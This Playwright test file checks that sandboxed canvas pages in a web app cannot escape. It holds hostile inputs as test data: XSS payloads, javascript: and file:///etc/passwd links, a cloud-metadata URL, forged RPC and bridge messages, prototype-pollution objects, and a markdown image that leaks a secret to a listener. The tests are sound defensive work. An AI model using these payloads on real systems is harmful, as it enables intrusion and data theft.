"""Hostile canvases in a browser: they cannot read the host page, connect, or forge requests, and are reported."""

from __future__ import annotations

import asyncio
import json
from typing import TYPE_CHECKING, Any

import pytest
import pytest_asyncio
from playwright.async_api import Browser, BrowserContext, Page, expect

from tests.browser.canvas import (
    COCKPIT_SPEC,
    MINIMAL_PAGE,
    CanvasApi,
    canvas_frame,
    loaded_frame,
    open_canvas,
    sign_in,
    wait_in_frame,
)
from tests.browser.canvas_ways_out import (
    ALLOWLIST_ONLY_WAYS,
    NAVIGATION_WAYS,
    PASSIVE_WAYS,
    listen,
    script,
    serve_unprotected,
)
from tests.browser.console import TIMEOUT_SECONDS
from tests.browser.wire import Wire
from tests.requirements import case, rule

if TYPE_CHECKING:
    from collections.abc import AsyncIterator

    from tests.support.processes import EaselProcess

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]

LEAK_SECONDS = 1.5  # what gets out at all gets out within a few milliseconds
EMPTY = "<!doctype html><body>"


@pytest_asyncio.fixture(loop_scope="session")
async def context(browser: Browser) -> AsyncIterator[BrowserContext]:
    """A context whose script errors do not fail the test."""
    opened = await browser.new_context(viewport={"width": 1000, "height": 700})
    opened.set_default_timeout(TIMEOUT_SECONDS * 1000)
    yield opened
    await opened.close()


@pytest_asyncio.fixture(loop_scope="session")
async def page(context: BrowserContext) -> Page:
    return await context.new_page()


def make_hostile_canvas(api: CanvasApi, text: str, **more: Any) -> str:
    name = api.make(f"{EMPTY}<script src='index.js'></script>", **more)
    api.put(name, "assets/index.js", text)
    return name


# --- U1, U9: the host ----------------------------------------------------------------------------------------------------

READS = {
    "parent.document": "parent.document.body",
    "top.document": "top.document.cookie",
    "parent.fetch": "parent.fetch('/api/runs')",
    "frameElement": "frameElement.ownerDocument.body",
    "cookie": "document.cookie",
    "cookie=": "document.cookie = 'easel=x'",
    "localStorage": "localStorage.getItem('x')",
    "sessionStorage": "sessionStorage.getItem('x')",
    "indexedDB": "new Promise((resolve, reject) => { const asked = indexedDB.open('x'); asked.onsuccess = resolve; asked.onerror = () => reject(asked.error) })",
    "caches": "caches.open('x')",
    "serviceWorker": "navigator.serviceWorker.register('index.js')",
    "SharedWorker": "new SharedWorker('index.js')",
    "open": "window.open('about:blank').document",
    "top.location": "top.location.href",
    "opener": "opener.document",
    "eval": "eval('1')",
    "Function": "new Function('return 1')()",
    "timer with text": "setTimeout('1') || null.x",
    "RTCPeerConnection": "new RTCPeerConnection()",
    "clipboard": "navigator.clipboard.readText()",
    "camera": "navigator.mediaDevices.getUserMedia({video: true})",
    "geolocation": "new Promise((resolve, reject) => navigator.geolocation.getCurrentPosition(resolve, reject))",
    "bridge of another": "Object.getPrototypeOf(gsvCanvas).constructor('return parent.document')()",
}


@case("U1")
@rule("RS-58", "CV-05")
async def test_canvas_page_cannot_read_the_host_page(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    tries = ", ".join(f"{json.dumps(name)}: async () => {{ return {way} }}" for name, way in READS.items())
    name = make_hostile_canvas(api, f"""
        const tries = {{ {tries} }}; window.got = {{}};
        (async () => {{ for (const [name, way] of Object.entries(tries)) try {{ got[name] = String(await way()) }} catch (problem) {{ got[name] = null }}
          window.isDone = true }})();""")  # fmt: skip
    await open_canvas(page, server, name)
    frame = await loaded_frame(page)
    await wait_in_frame(frame, "window.isDone")
    assert await frame.evaluate("self.origin") == "null"
    assert {way: got for way, got in (await frame.evaluate("got")).items() if got is not None} == {}
    assert len(page.context.pages) == 1
    cookies = {one.get("name"): one.get("httpOnly") for one in await page.context.cookies()}
    assert cookies == {"easel": True}, "there was something to read"


@case("U9")
@rule("CV-05")
async def test_canvas_page_cannot_call_the_api_with_the_sign_in(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    forged = json.dumps({"method": "canvas.delete", "params": {"canvasId": "x"}})
    name = make_hostile_canvas(api, f"""
        window.tried = 0; const ways = [
          () => fetch('/api/rpc', {{method: 'POST', credentials: 'include', body: {json.dumps(forged)}}}), () => fetch('/api/runs', {{credentials: 'include'}}),
          () => navigator.sendBeacon('/api/rpc', {json.dumps(forged)}), () => {{ new Image().src = '/api/artifacts/x' }}, () => new WebSocket('ws://' + location.host + '/ws'),
          () => new EventSource('/sse/canvas/x', {{withCredentials: true}}), () => import('/ui/home.js'),
          () => {{ const form = document.createElement('form'); form.method = 'POST'; form.action = '/sign-out'; document.body.append(form); form.submit() }},
          () => {{ const frame = document.createElement('iframe'); frame.src = '/'; document.body.append(frame) }},
          () => {{ location.href = '/api/runs' }} ];
        for (const way of ways) {{ try {{ Promise.resolve(way()).catch(() => {{}}) }} catch {{ }} tried += 1 }}""")  # fmt: skip
    async with Wire(server.base_url) as wire:
        await sign_in(page.context, server, wire.base_url)
        wire.answers.clear()
        await page.goto(f"{wire.base_url}/canvas/main/{name}")
        await expect(page.locator("#link")).to_have_text("connected")
        await expect(
            page.locator("#stage .left")
        ).to_be_visible()  # it tried to go away, and its place is taken
        await asyncio.sleep(LEAK_SECONDS)
        asked = [one.target for one in wire.answers]
    ours = ("/ui/", "/canvas/main/", "/canvas-view/", "/ws", "/healthz")
    assert [target for target in asked if not target.startswith(ours)] == []
    assert [target for target in asked if target.startswith("/ws")] == ["/ws"], "the shell's one connection"
    assert [target for target in asked if target.startswith("/ui/home.js")] == []


# --- U2: the way out -------------------------------------------------------------------------------------------------------


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def enforces_allowlist(browser: Browser) -> bool:
    """Whether this browser enforces `Connection-Allowlist`: a page with an empty list fetches from a listener.

    Chromium 150 ignores the header, Chromium 156 enforces it.
    """
    probe = "fetch('http://LISTENER/way-fetch', {mode: 'no-cors'}).catch(() => {}).finally(() => { window.hasTried = true })"
    async with listen() as listener:
        html = f"{EMPTY}<script>{probe.replace('LISTENER', listener.address)}</script>"
        async with serve_unprotected(html, "connection-allowlist: ()\r\n") as address:
            context = await browser.new_context()
            page = await context.new_page()
            await page.goto(address)
            await wait_in_frame(page.main_frame, "window.hasTried")
            await context.close()
        return listener.received == []


def open_ways(enforces_allowlist: bool) -> frozenset[str]:
    """Return the known ways out of a page in this browser."""
    return frozenset() if enforces_allowlist else ALLOWLIST_ONLY_WAYS


@case("U2")
@rule("RS-58")
async def test_canvas_page_reaches_no_other_port(
    page: Page, server: EaselProcess, api: CanvasApi, enforces_allowlist: bool
) -> None:
    # An unprotected page gets out by nearly all ways: the listener notices them.
    async with (
        listen() as listener,
        serve_unprotected(f"{EMPTY}<script>{script(PASSIVE_WAYS, listener)}</script>") as address,
    ):
        unprotected = await page.context.new_page()
        await unprotected.goto(address)
        await wait_in_frame(unprotected.main_frame, "window.hasTried")
        # Chromium does not prefetch in a test, and a headless window has no icon.
        idle = {
            "preconnect",
            "dns-prefetch",
            "icon",
            "ping",
            "speculation",
            "fetch-keepalive",
            "modulepreload",
        }
        await api.until(lambda: set(PASSIVE_WAYS) - listener.ways() <= idle, "requests by all ways")
        await unprotected.close()
    async with listen() as listener:
        name = make_hostile_canvas(api, script(PASSIVE_WAYS, listener))
        await open_canvas(page, server, name)
        await wait_in_frame(await loaded_frame(page), "window.hasTried")
        await asyncio.sleep(LEAK_SECONDS)
        assert listener.ways() <= open_ways(enforces_allowlist)
        await expect(page.locator("#notes")).to_contain_text("problems")


RTC = ("stun", "turn")
OTHERS = tuple(way for way in PASSIVE_WAYS if way not in RTC)


@case("U2")
@pytest.mark.parametrize("ways", [RTC, OTHERS], ids=["WebRTC", "all others"])
async def test_frame_inside_a_canvas_page_reaches_no_other_port(
    page: Page, server: EaselProcess, api: CanvasApi, ways: tuple[str, ...], enforces_allowlist: bool
) -> None:
    """The SDK removes WebRTC from the page only. Chromium 156 ends a frame that tries it."""
    async with listen() as listener:
        name = make_hostile_canvas(api, "")
        tries = script({way: PASSIVE_WAYS[way] for way in ways}, listener)
        api.put(
            name,
            "assets/inner.js",
            "const report = (inner) => parent.postMessage({inner}, '*'); "
            f"addEventListener('message', () => {{ {tries}; report('tried') }}); report(typeof RTCPeerConnection)",
        )
        await open_canvas(page, server, name)
        frame = await loaded_frame(page)
        reports: list[str] = []
        await page.context.expose_binding("reportInner", lambda _, report: reports.append(report))
        await frame.evaluate(
            """(folder) => {
              addEventListener('message', ({data}) => { if (data.inner) reportInner(data.inner) });
              const inner = document.createElement('iframe');
              inner.srcdoc = `<body><script src="${folder}inner.js"></script>`;
              document.body.append(inner);
            }""",
            frame.url.rpartition("/")[0] + "/",
        )
        await api.until(lambda: reports, "the inner frame")
        assert reports == ["function"], "WebRTC is available in the inner frame"
        await frame.evaluate("document.querySelector('iframe').contentWindow.postMessage('now', '*')")
        if ways is not RTC:  # the frame reports it, because one of the ways navigates it
            await api.until(lambda: "tried" in reports, "all ways tried")
        await asyncio.sleep(LEAK_SECONDS)
        assert listener.ways() <= open_ways(enforces_allowlist)
        if ways is RTC:
            assert enforces_allowlist or listener.ways() >= set(RTC), (
                "then ALLOWLIST_ONLY_WAYS must be corrected"
            )
        else:
            await expect(page.locator("#link")).to_have_text("connected")


@case("U2")
async def test_canvas_page_cannot_navigate_to_another_site(
    context: BrowserContext, server: EaselProcess, api: CanvasApi, enforces_allowlist: bool
) -> None:
    """All ways at the same time, each in a page of its own."""
    async with listen() as listener:
        await sign_in(context, server)

        async def try_way(way: str) -> None:
            # A message of an unknown kind announces the attempt; the shell shows it a second later.
            announce = "parent.postMessage({kind: 'leaving'}, '*');"
            name = make_hostile_canvas(api, announce + script({way: NAVIGATION_WAYS[way]}, listener))
            page = await context.new_page()
            await page.goto(f"{server.base_url}/canvas/main/{name}")
            await expect(page.locator("#link")).to_have_text("connected")
            await expect(page.locator("#notes-list"), way).to_contain_text("no page may: leaving")
            assert page.url == f"{server.base_url}/canvas/main/{name}", way

        await asyncio.gather(*map(try_way, NAVIGATION_WAYS))
        assert listener.ways() <= open_ways(enforces_allowlist)
        assert len(context.pages) == len(NAVIGATION_WAYS), "no window was opened"


@case("R7")
async def test_canvas_page_may_connect_to_the_origins_of_its_spec(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    """Each origin is in two headers, and an invalid one would block every connection."""
    policy = {
        **COCKPIT_SPEC["toolPolicy"],
        "connect": ["https://api.example.com:8443", "wss://xn--bcher-kva.example"],
    }
    name = api.make(MINIMAL_PAGE, {**COCKPIT_SPEC, "toolPolicy": policy})
    frame = await open_canvas(page, server, name)
    await (await loaded_frame(page)).evaluate(
        "for (const port of [8443, 8444]) fetch(`https://api.example.com:${port}/x`).catch(() => {})"
    )
    await expect(page.locator("#notes-list")).to_contain_text("https://api.example.com:8444/x")
    await expect(page.locator("#notes-list")).not_to_contain_text("8443")
    await frame.get_by_text("Refresh Logs").click()
    await expect(frame.locator("pre")).to_have_text("journal of api")


async def test_page_that_navigated_away_can_be_shown_again(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    name = api.make(f"{EMPTY}<p data-gsv-text=state.service></p><script src=index.js></script>")
    api.put(
        name,
        "assets/index.js",
        "addEventListener('click', () => { location.href = 'https://example.com/' }); document.body.id = 'ready'",
    )
    frame = await open_canvas(page, server, name)
    await frame.locator("#ready").click()
    await expect(page.locator("#stage .left")).to_contain_text("went somewhere else")
    await page.get_by_role("button", name="Show the canvas again").click()
    await expect(canvas_frame(page).locator("p")).to_have_text("api")
    await expect(page.locator("#notes-list")).to_contain_text("It left the canvas")


SCHEMES = ["javascript:parent.document.body.remove()", "JaVaScRiPt:top.x=1", " javascript:alert(1)", "\\x01javascript:alert(1)", "java\\nscript:alert(1)", "file:///etc/passwd", "data:text/html,<script>parent.postMessage({gsv:1},'*')</script>",
           "vbscript:x", "http://169.254.169.254/latest", "http://localhost@evil.example/", "//evil.example/", "blob:null/x", "about:srcdoc", "view-source:http://localhost/", "filesystem:http://x/"]  # fmt: skip


@case("U6")
@rule("RS-58")
async def test_link_with_any_scheme_does_not_leave_the_canvas(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    links = "".join(f'<a id="l{number}"></a>' for number in range(len(SCHEMES)))
    addresses = ", ".join(f'"{one}"' for one in (scheme.replace('"', "'") for scheme in SCHEMES))
    name = api.make(f"{EMPTY}{links}<script src=index.js></script>")
    api.put(
        name,
        "assets/index.js",
        f"[{addresses}].forEach((href, n) => {{ const link = document.getElementById('l' + n); link.href = href; link.textContent = 'link ' + n + ' ' }})",
    )
    asked: list[str] = []
    page.on("request", lambda request: asked.append(request.url))
    frame = await open_canvas(page, server, name)
    for number in range(len(SCHEMES)):
        await frame.locator(f"#l{number}").click()
        await expect(frame.locator(f"#l{number}"), f"after {SCHEMES[number]}").to_be_visible()
    assert all(url.startswith(server.base_url) for url in asked), asked
    assert (len(page.context.pages), page.url) == (1, f"{server.base_url}/canvas/main/{name}")
    assert await page.evaluate("document.body.isConnected && window.x === undefined")


# --- U5, CV-05: the bridge ---------------------------------------------------------------------------------------------------

RECORD_MESSAGES = """addEventListener('message', ({data}) => {
    if (data?.gsv && data.nonce) window.nonce = data.nonce;
    if (data?.gsv && data.kind === 'answer') window.answered = data; // and not what else the host says in between
  });"""


@case("U5")
@rule("CV-05")
async def test_forged_bridge_request_is_refused_and_audited(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    name = make_hostile_canvas(api, RECORD_MESSAGES)
    await open_canvas(page, server, name)
    frame = await loaded_frame(page)
    await wait_in_frame(frame, "window.nonce")
    for forged in (
        {"kind": "tool.call", "tool": "gsv__Echo", "args": {"value": 1}},
        {"kind": "req", "method": "tool.invoke", "params": {"tool": "gsv__Echo"}},
        {"kind": "confirm", "confirmationId": "evt_x", "approve": True},
        {"kind": "canvas.patch", "statePatch": [{"op": "add", "path": "/service", "value": "forged"}]},
        {"kind": "__proto__"},
        {"kind": "constructor"},
    ):
        await frame.evaluate(
            "(forged) => parent.postMessage({gsv: 1, nonce, id: 'f', ...forged}, '*')", forged
        )
        await wait_in_frame(frame, "window.answered?.id === 'f'")
        assert await frame.evaluate("answered.error.code") == 403
        await frame.evaluate("answered = null")
    await expect(page.locator("#notes-list")).to_contain_text("requested something that no page may")
    await api.until(
        lambda: any(one["what"] == "kind" for one in api.audit("canvas.page.refused", name)), "the record"
    )
    assert api.records(name) == []
    assert api.state(name)["service"] == "api"


@case("U5")
async def test_message_from_another_window_or_with_a_wrong_nonce_is_dropped(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    """A frame inside of the page, a wrong or old nonce, the shell's own window: none of them runs an action."""
    action = "{gsv: 1, kind: 'action', id: 'x', actionId: 'setDeploying', input: {}, nonce: "
    name = make_hostile_canvas(api, RECORD_MESSAGES)
    api.put(
        name,
        "assets/inner.js",
        f"parent.parent.postMessage({action} 'guessed'}}, '*'); addEventListener('message', (e) => parent.parent.postMessage({action} e.data}}, '*'))",
    )
    await open_canvas(page, server, name)
    frame = await loaded_frame(page)
    await wait_in_frame(frame, "window.nonce")
    old = await frame.evaluate("nonce")
    await frame.evaluate("""(folder) => { const inner = document.createElement('iframe'); inner.onload = () => { inner.contentWindow.postMessage(nonce, '*'); window.isIn = true };
        inner.srcdoc = `<script src="${folder}inner.js"></script>`; document.body.append(inner) }""", frame.url.rpartition("/")[0] + "/")  # fmt: skip
    await wait_in_frame(frame, "window.isIn")
    await frame.evaluate(f"parent.postMessage({action} 'guessed'}}, '*')")
    await frame.evaluate("parent.postMessage({gsv: 1, kind: 'hello'}, '*')")
    await wait_in_frame(frame, f"nonce !== {json.dumps(old)}")
    await frame.evaluate(f"parent.postMessage({action} {json.dumps(old)}}}, '*')")
    await page.evaluate(f"postMessage({action} {json.dumps(old)}}}, '*')")
    told = await api.until(
        lambda: (
            {one["what"] for one in api.audit("canvas.page.refused", name)} >= {"source", "nonce"} or None
        ),
        "the records",
    )
    assert told
    assert api.records(name) == []
    assert "status" not in api.state(name)
    await frame.evaluate(f"parent.postMessage({action} nonce}}, '*')")
    await api.until(lambda: api.state(name).get("status") == "deploying", "with the right one it does run")


OVERSIZED = {
    "10 MB of text": "'x'.repeat(10_000_000)",
    "a sparse array": "(() => { const a = []; a.length = 4e9; return a })()",
    "many small values": "Array.from({length: 200_000}, (_, n) => n)",
    "deep nesting": "(() => { let a = {}; for (let n = 0; n < 2000; n += 1) a = {a}; return a })()",
    "a Map": "new Map([[1, 2]])",
    "bytes": "new ArrayBuffer(5_000_000)",
    "a big integer": "10n ** 50n",
    "a cycle": "(() => { const a = {}; a.a = a; return a })()",
}


@case("U5")
async def test_oversized_message_is_dropped(page: Page, server: EaselProcess, api: CanvasApi) -> None:
    name = make_hostile_canvas(api, RECORD_MESSAGES)
    await open_canvas(page, server, name)
    frame = await loaded_frame(page)
    await wait_in_frame(frame, "window.nonce")

    def refused_count() -> int:
        records = api.audit("canvas.page.refused", name)
        return sum(record["refused"] for record in records if record["what"] == "size")

    for value in OVERSIZED.values():
        await frame.evaluate(
            "parent.postMessage({gsv: 1, nonce, kind: 'action', id: 'x', actionId: 'setDeploying', "
            f"input: {{ value: {value} }} }}, '*')"
        )
    await api.until(lambda: refused_count() == len(OVERSIZED), "one refusal for each message")
    assert api.records(name) == []
    run = "gsvCanvas.runAction('setDeploying').then((answer) => answer.status)"
    assert await frame.evaluate(run) == "completed", "valid messages are still accepted"


@case("U5", "R4")
async def test_message_flood_is_limited(page: Page, server: EaselProcess, api: CanvasApi) -> None:
    name = make_hostile_canvas(api, RECORD_MESSAGES)
    await open_canvas(page, server, name)
    frame = await loaded_frame(page)
    await wait_in_frame(frame, "window.nonce")
    began = asyncio.get_running_loop().time()
    await frame.evaluate(
        "for (let n = 0; n < 10_000; n += 1) parent.postMessage({gsv: 1, nonce, kind: 'action', id: 'i' + n, actionId: 'setDeploying', input: {}}, '*')"
    )

    def refused_count() -> int:
        """Sum the reports, which come once a second."""
        return sum(one["refused"] for one in api.audit("canvas.page.refused", name) if one["what"] == "rate")

    await api.until(lambda: refused_count() > 9_000, "the record")
    took = asyncio.get_running_loop().time() - began
    assert len(api.records(name)) <= 200 + 60 * took, "a burst, and what may come in that time"
    # It answers as quickly as a page to which nothing happens, asked in the same moment: the machine may be slow.
    idle = await page.context.new_page()
    began = asyncio.get_running_loop().time()

    async def measure_response(one: Page) -> float:
        await one.evaluate("1")
        return asyncio.get_running_loop().time() - began

    flooded, floor = await asyncio.gather(measure_response(page), measure_response(idle))
    assert flooded - floor < 2
    assert flooded < TIMEOUT_SECONDS, "and neither of them is kept waiting by the flood"
    api.patch(name, "/service", "still here")
    await wait_in_frame(frame, "gsvCanvas.getState().service === 'still here'")


async def test_paths_through_prototypes_are_not_resolved(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    places = [
        "state.__proto__.polluted",
        "state.constructor.name",
        "state.constructor.prototype.polluted",
        "__proto__",
        "state.service.length",
        "state.hosts.length",
    ]
    tags = "".join(f'<i data-gsv-text="{place}"></i>' for place in places) + "".join(
        f'<input data-gsv-model="{place}">' for place in places[:4]
    )
    name = api.make(
        f"{EMPTY}{tags}<form data-gsv-action=say><input name=__proto__ value=x><input name=word value=w><button>Go</button></form>"
    )
    api.patch(name, "/hosts", [1, 2])
    frame = await open_canvas(page, server, name)
    await expect(frame.locator("i")).to_have_text([""] * len(places))
    for number in range(4):
        await frame.locator("input[data-gsv-model]").nth(number).fill("polluted")
    await frame.get_by_text("Go").click()
    await api.until(lambda: (api.state(name).get("said") or {}).get("result") == "w/", "the form's action")
    assert await (await loaded_frame(page)).evaluate(
        "({}).polluted === undefined && Object.prototype.x === undefined"
    )
    assert await page.evaluate("({}).polluted === undefined")
    assert set(api.state(name)) == {*COCKPIT_SPEC["state"], "hosts", "said"}


@case("X7")
async def test_tool_result_with_prototype_names_is_plain_data(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    """A written state with such names is refused; a result cannot be."""
    evil = {
        "__proto__": {"polluted": "x", "toString": "y"},
        "constructor": {"prototype": {"polluted": "x"}},
        "hasOwnProperty": 1,
    }
    bring = {"kind": "tool.call", "tool": "gsv__Echo", "args": {"value": evil}}
    spec = {
        "version": 1,
        "toolPolicy": {"allow": ["gsv__Echo"]},
        "actions": {
            "bring": {**bring, "saveAs": "kept"},
            "merge": {**bring, "saveAs": "merged", "saveMode": "merge"},
            "list": {**bring, "saveAs": "list", "saveMode": "append"},
        },
    }
    page_of_its_own = (
        f'{EMPTY}<button data-gsv-action="bring">Bring</button><button data-gsv-action="merge">Merge</button>'
        '<button data-gsv-action="list">List</button><pre data-gsv-text="state.kept.result"></pre>'
    )
    for html in (page_of_its_own, None):
        name = api.make(html, spec)
        frame = await open_canvas(page, server, name)
        for button in ("Bring", "Merge", "List"):
            await frame.get_by_role("button", name=button).click()
        await api.until(lambda name=name: {"kept", "merged", "list"} <= api.state(name).keys(), "all results")
        await expect(frame.locator("pre:visible").first).to_contain_text('"__proto__"')
        canvas_frame = await loaded_frame(page)
        await wait_in_frame(
            canvas_frame, "gsvCanvas.getState().list?.length === 1 && 'merged' in gsvCanvas.getState()"
        )
        assert await canvas_frame.evaluate("Object.hasOwn(gsvCanvas.getState().kept.result, '__proto__')"), (
            "as it came"
        )
        clean = "({}).polluted === undefined && [].polluted === undefined && `${{}}` === '[object Object]' && typeof Object.prototype.hasOwnProperty === 'function'"
        for place in (canvas_frame, page):
            assert await place.evaluate(clean)
        await open_canvas(page, server, name)  # and as a page that is opened then reads it
        await wait_in_frame(await loaded_frame(page), "'kept' in gsvCanvas.getState()")
        for place in (await loaded_frame(page), page):
            assert await place.evaluate(clean)
        await expect(page.locator("#notes")).to_be_hidden()


# --- RS-59: what people press and answer -------------------------------------------------------------------------------------

STOPS_ALL = f"""{EMPTY}<p>page</p><script>
  const tried = new Set(); // once each: the records of a flood tell of the flood, and not of each try in it
  document.addEventListener('gsv:status', ({{ detail }}) => {{
    for (const {{ status, eventId }} of Object.values(detail)) {{
      if (!['running', 'asked'].includes(status) || tried.has(status + eventId)) continue;
      tried.add(status + eventId);
      gsvCanvas.cancelAction(eventId).catch(() => {{}});
    }}
  }});
</script>"""
DEPLOY: dict[str, Any] = {
    "version": 1,
    "toolPolicy": {"allow": ["gsv__Sleep"]},
    "actions": {
        "deploy": {"kind": "tool.call", "tool": "gsv__Sleep", "args": {"ms": 2_500}, "confirm": "never"},
        "long": {"kind": "tool.call", "tool": "gsv__Sleep", "args": {"ms": 60_000}, "confirm": "never"},
        "ask": {"kind": "tool.call", "tool": "gsv__Sleep", "args": {"ms": 1_500}, "confirm": "always"},
    },
}


@rule("RS-59", "CV-05")
async def test_unaccepted_page_cannot_decide_or_cancel_for_a_person(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    name = api.make(MINIMAL_PAGE, DEPLOY)
    await api.as_agent(operation="upsert", canvasId=name, assets={"assets/index.html": STOPS_ALL})
    assert api.rpc("canvas.get", canvasId=name)["accepted"] is False
    await open_canvas(page, server, name)

    def has_tried(event_id: str) -> bool:
        return any(
            one["detail"] == event_id
            for one in api.audit("canvas.page.refused", name)
            if one["what"] == "stop"
        )

    asked = api.rpc("canvas.action", canvasId=name, actionId="ask")["confirmationId"]
    await api.until(lambda: has_tried(asked), "it tries to refuse, and that is on record")
    assert [one["status"] for one in api.records(name)] == ["asked"], "it waits for the person"
    ended = await asyncio.to_thread(api.rpc, "canvas.confirm", confirmationId=asked, approve=True)
    assert ended["status"] == "completed", "what they have confirmed runs to its end"
    pressing = asyncio.create_task(
        asyncio.to_thread(api.rpc, "canvas.action", canvasId=name, actionId="long")
    )
    event_id = (
        await api.until(lambda: [one for one in api.records(name) if one["status"] == "running"], "it runs")
    )[0]["eventId"]
    await api.until(lambda: has_tried(event_id), "it tries to stop it")
    assert api.records(name)[0]["status"] == "running"
    await expect(page.locator("#notes-list")).to_contain_text("tried to stop an action that it did not start")
    assert api.audit("canvas.cancelled", name) == []
    api.rpc("canvas.cancel", canvasId=name, eventId=event_id)
    await asyncio.gather(pressing, return_exceptions=True)


@rule("RS-59", "CV-05")
async def test_unaccepted_page_cancels_only_its_own_actions(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    name = api.make(MINIMAL_PAGE, DEPLOY)
    await api.as_agent(
        operation="upsert", canvasId=name, assets={"assets/index.html": f"{EMPTY}<p>first</p>"}
    )
    await open_canvas(page, server, name)
    frame = await loaded_frame(page)
    stop = "gsvCanvas.cancelAction(%s).then(({ status }) => status, ({ code }) => code)"

    async def start_action() -> str:
        await frame.evaluate("void gsvCanvas.runAction('long').catch(() => {})")
        [one] = await api.until(
            lambda: api.rpc("canvas.records", canvasId=name, status="running")["records"], "it runs"
        )
        return json.dumps(one["eventId"])

    assert await frame.evaluate(stop % await start_action()) == "cancelled"
    event_id = await start_action()
    await api.as_agent(
        operation="upsert", canvasId=name, assets={"assets/index.html": f"{EMPTY}<p>second</p>"}
    )
    await expect(canvas_frame(page).locator("p")).to_have_text("second")
    frame = await loaded_frame(page)
    assert await frame.evaluate(stop % event_id) == 403, "another page has started it"
    api.rpc("canvas.cancel", canvasId=name, eventId=json.loads(event_id))


@rule("RS-59")
async def test_accepted_page_cancels_any_running_action_and_decides_nothing(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    name = api.make(f"{EMPTY}<p>page</p>", DEPLOY)
    await open_canvas(page, server, name)
    frame = await loaded_frame(page)
    asked = api.rpc("canvas.action", canvasId=name, actionId="ask")["confirmationId"]
    refuse = (
        f"gsvCanvas.cancelAction({json.dumps(asked)}).then(({{ status }}) => status, ({{ name }}) => name)"
    )
    assert await frame.evaluate(refuse) == "NOT_RUNNING"
    await frame.evaluate("void gsvCanvas.runAction('ask')")
    await expect(page.locator("#consent")).to_be_visible()
    mine = next(one["eventId"] for one in api.records(name))
    assert await frame.evaluate(refuse.replace(asked, mine)) == "NOT_RUNNING", (
        "nor what it has asked for itself"
    )
    await expect(page.locator("#consent")).to_be_visible()
    assert [one["status"] for one in api.records(name)] == ["asked", "asked"]
    await page.locator("#consent-refuse").click()
    running = asyncio.create_task(
        asyncio.to_thread(api.rpc_any, "canvas.action", canvasId=name, actionId="long")
    )
    [one] = await api.until(
        lambda: api.rpc("canvas.records", canvasId=name, status="running")["records"], "it runs"
    )
    await frame.evaluate(f"gsvCanvas.cancelAction({json.dumps(one['eventId'])})")
    assert (await running)["error"]["name"] == "CANCELLED"


# --- P5: what tools bring ----------------------------------------------------------------------------------------------------


@case("P5")
async def test_tool_result_is_shown_as_text_and_fetches_nothing(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    async with listen() as listener:
        evil = f'![x](http://{listener.address}/?q=secret) <img src="http://{listener.address}/img" onerror="parent.x=1"> <script>top.x=1</script> http://{listener.address}/auto [go](javascript:x)'
        spec = {
            **COCKPIT_SPEC,
            "actions": {
                **COCKPIT_SPEC["actions"],
                "bring": {
                    "kind": "tool.call",
                    "tool": "gsv__Echo",
                    "args": {"value": evil},
                    "saveAs": "logsTail",
                    "confirm": "always",
                    "title": evil[:150],
                },
            },
        }
        for html in (MINIMAL_PAGE.replace("refreshLogs", "bring"), None):
            name = api.make(html, spec)
            api.patch(name, "/service", evil)
            frame = await open_canvas(page, server, name)
            await frame.locator("[data-gsv-action=bring]").click()
            await expect(page.locator("#consent-call")).to_contain_text(evil)
            await page.get_by_role("button", name="Approve").click()
            await expect(frame.locator("pre:visible").first).to_contain_text(evil)
            assert await frame.locator("img, a").count() == 0
            assert await page.locator("#stage ~ * img, header img, dialog img").count() == 0
        broken = api.make(
            f"{EMPTY}<b data-gsv-action='![x](http://{listener.address}/y)<img src=http://{listener.address}/z>'></b>"
        )
        await open_canvas(page, server, broken)
        await expect(page.locator("#notes-list")).to_contain_text("<img src=")
        assert await page.locator("#notes img").count() == 0
        await asyncio.sleep(LEAK_SECONDS / 2)
        assert listener.received == []
        assert await page.evaluate("window.x === undefined")


async def test_value_inserted_as_html_runs_no_script(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    """An author's mistake that the policy contains: only scripts of the stored page run."""
    name = api.make(
        f"{EMPTY}<div id=here></div><script>gsvCanvas.subscribe((state) => {{ here.innerHTML = state.service }}); window.inline = true</script>"
    )
    api.patch(
        name,
        "/service",
        "<img src=x onerror='window.pwned=1'><iframe srcdoc='<script>parent.pwned=1</script>'></iframe><a href='javascript:pwned=1'>x</a>",
    )
    await open_canvas(page, server, name)
    frame = await loaded_frame(page)
    await wait_in_frame(frame, "document.querySelector('#here a')")
    assert await frame.evaluate("inline"), "the script that the page came with did run"
    await frame.evaluate("document.querySelector('#here a').click()")
    await asyncio.sleep(0.2)
    assert await frame.evaluate("window.pwned === undefined")
    await expect(page.locator("#notes-list")).to_contain_text("Blocked by the page's policy")


# --- U8: the shell itself ----------------------------------------------------------------------------------------------------


@case("U8")
async def test_other_site_cannot_frame_the_shell_or_a_view(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    name = api.make(MINIMAL_PAGE)
    await open_canvas(page, server, name)
    view = (await loaded_frame(page)).url
    addresses = [f"{server.base_url}/canvas/main/{name}", f"{server.base_url}/", view]
    frames = "".join(f"<iframe src='{one}'></iframe>" for one in addresses)
    async with serve_unprotected(f"<!doctype html>{frames}") as address:
        other = await page.context.new_page()
        await other.goto(address)
        assert len(other.frames) == 1 + len(addresses)
        await api.until(
            lambda: all(one.url.startswith("chrome-error:") for one in other.frames[1:]),
            "none of them is shown",
        )


async def test_view_outside_of_the_frame_has_an_opaque_origin(
    page: Page, server: EaselProcess, api: CanvasApi
) -> None:
    name = api.make(f"{EMPTY}<p data-gsv-text=state.service>nothing</p>")
    await open_canvas(page, server, name)
    view = (await loaded_frame(page)).url
    alone = await page.context.new_page()
    await alone.goto(view)
    assert await alone.evaluate("self.origin") == "null"
    assert (
        await alone.evaluate(
            "(() => { try { return document.cookie } catch (problem) { return problem.name } })()"
        )
